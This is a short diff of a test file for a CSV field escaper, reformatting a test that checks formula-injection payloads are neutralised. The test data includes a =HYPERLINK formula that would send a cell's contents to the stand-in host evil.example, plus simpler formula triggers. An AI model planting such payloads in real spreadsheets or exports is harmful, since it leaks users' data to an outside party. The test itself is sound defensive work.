@@ -28,7 +28,9 @@ describe("csvField", () => {
   });
 
   it("neutralises the classic payloads", () => {
-    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"Click")')).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"');
+    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"Click")')).toBe(
+      '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"',
+    );
     expect(csvField("+1+1")).toBe(`"'+1+1"`);
     expect(csvField("-2")).toBe(`"'-2"`);
     expect(csvField("@SUM(1)")).toBe(`"'@SUM(1)"`);
